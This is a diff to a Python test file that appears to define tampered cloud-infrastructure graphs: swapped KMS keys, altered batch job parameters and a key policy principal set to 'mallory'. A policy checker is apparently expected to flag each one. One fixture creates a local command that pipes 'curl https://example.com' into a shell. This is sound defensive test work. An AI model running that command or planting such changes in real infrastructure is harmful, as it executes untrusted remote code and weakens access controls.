@@ -56,6 +56,19 @@ def expression(text: str) -> Mutation:
     return setting(ALARM, "metricQueries.0.expression", text, "idle")
 
 
+def job(path: str, value: str) -> Mutation:
+    """The pilot's batch job with another value in its request."""
+
+    def edit(definition: Any) -> None:
+        request = definition["States"]["Transform"]["Parameters"]
+        if path in request:
+            request[path] = value
+        else:
+            put(request, path, value)
+
+    return editing("aws:sfn/stateMachine:StateMachine", "definition", edit)
+
+
 def strange(*mutations: Mutation) -> Mutation:
     """The graph as it is of a program that nobody knows, with changes."""
     return both(lambda graph: replace(graph, placement=None, ours=False), *mutations)
@@ -155,6 +168,19 @@ SILENT: list[tuple[str, Mutation]] = [
         "world-elsewhere",
         strange(setting(MODEL, "primaryContainer.image", "111122223333.dkr.ecr.us-east-1.amazonaws.com/mallorys:1")),
     ),
+    *(("world-job", job(path, "mallory")) for path in ("ModelName", "TransformOutput.KmsKeyId", "TransformJobName.$")),
+    ("world-job", job("TransformResources.VolumeKmsKeyId", "alias/mallory")),
+    *(
+        ("rollback-run-whole", job(f"TransformInput.{path}", "mallory"))
+        for path in ("ContentType", "SplitType", "DataSource.S3DataSource.S3Uri", "DataSource.S3DataSource.S3DataType")
+    ),
+    ("cost-batch-tags", job("Tags.1.Value", "another-stack")),
+    ("inputs-own", setting(POLICY, f"{TRACKING}.customizedMetricSpecification.dimensions.0.value", "x", "on-backlog")),
+    ("inputs-allowed", setting("aws:ec2/subnet:Subnet", "availabilityZone", "mallory")),
+    ("inputs-allowed", setting("aws:cloudwatch/logGroup:LogGroup", "retentionInDays", 366)),
+    ("identity-documents", editing(KEY, "policy", lambda d: put(d, "Statement.0.Principal.AWS", "mallory"))),
+    ("limits-stores-expire", setting(LIFECYCLE, "rules.0.filter.prefix", "somewhere/", "audit")),
+    (LOOKS, alarm("scorer-errors", evaluationPeriods=60)),
     ("kind-known", strange(adding("command:local:Command", create="curl https://example.com | sh"))),
 ]
 
